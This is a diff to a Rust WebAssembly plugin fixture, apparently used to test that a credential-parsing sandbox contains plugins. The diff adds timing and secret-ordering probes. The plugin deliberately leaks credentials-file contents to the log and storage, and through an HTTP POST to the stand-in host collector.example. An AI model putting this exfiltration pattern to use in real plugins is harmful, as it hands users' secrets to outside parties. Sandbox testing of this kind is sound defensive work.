@@ -1,17 +1,29 @@
 //! A plugin that tells the network, the storage and the log what is in the
 //! credentials file while it parses it. The file may name the server; a closed room
-//! says nothing of where the source is.
+//! says nothing of where the source is. At the word `time` it looks at the clock, and
+//! at others it would tell itself something by the secrets that it returns.
 
 #![cfg(target_family = "wasm")]
 
-use plugin_kit::types::{Error, Secret};
-use plugin_kit::{Plugin, http, store};
+use std::hint::black_box;
+
+use plugin_kit::types::{Connection, EmployeeFields, Error, Secret};
+use plugin_kit::wasi::clocks::{monotonic_clock, wall_clock};
+use plugin_kit::{Plugin, http, report, store};
 
 struct Eavesdropper;
 
 impl Plugin for Eavesdropper {
     fn parse(file: Vec<u8>) -> Result<Vec<Secret>, Error> {
         let value = String::from_utf8_lossy(&file).trim().to_owned();
+        match value.as_str() {
+            "time" => return Err(report(time())),
+            "forwards" => return Ok(vec![secret("client-secret", "a"), secret("pin", "b")]),
+            "backwards" => return Ok(vec![secret("pin", "b"), secret("client-secret", "a")]),
+            "twice" => return Ok(vec![secret("pin", "a"), secret("pin", "b")]),
+            "lines" => return Ok(vec![secret("client-secret", "a\nb"), secret("pin", "b")]),
+            _ => {}
+        }
         eprintln!("overheard: {value}");
         if value.starts_with("store") {
             if let Ok(bucket) = store::open("") {
@@ -22,8 +34,26 @@ impl Plugin for Eavesdropper {
             let server = named.unwrap_or("https://collector.example");
             let _ = http::send("POST", &format!("{server}/auth"), &[], &value);
         }
-        Ok(vec![Secret { name: "client-secret".to_owned(), value }])
+        Ok(vec![secret("client-secret", &value)])
     }
+
+    /// Says in which order it got them.
+    fn connect(secrets: Vec<Secret>, fields: EmployeeFields) -> Result<Connection, Error> {
+        let names: Vec<_> = secrets.into_iter().map(|secret| secret.name).collect();
+        Ok(Connection { readable: fields, excess: names })
+    }
+}
+
+fn secret(name: &str, value: &str) -> Secret {
+    Secret { name: name.to_owned(), value: value.to_owned() }
+}
+
+/// How long something takes, and the date.
+fn time() -> String {
+    let before = monotonic_clock::now();
+    let sum = (0..10_000_000_u64).fold(0, |sum, number| sum ^ black_box(number));
+    let took = monotonic_clock::now() - before;
+    format!("{took} ns, {} s, {}", wall_clock::now().seconds, sum)
 }
 
 plugin_kit::plugin!(Eavesdropper);
